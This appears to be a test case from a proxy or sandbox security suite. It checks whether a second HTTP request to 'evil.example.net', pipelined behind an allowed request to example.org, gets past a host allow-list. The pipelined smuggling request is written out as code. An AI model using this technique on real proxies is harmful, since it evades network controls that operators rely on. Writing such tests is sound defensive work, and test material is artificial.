# /// attack
# guarantee = "network"
# summary = "Sends a second request for another site right behind the first."
# reference = "RFC 9112, 9.3.2"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy more than one request came at once" }
# ///

from kit import exchange, head, judge, target, url

first = head(f"GET {url('example.org', '/first')}", "Host: example.org")
second = head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close")
judge(exchange("example.org", first + second))
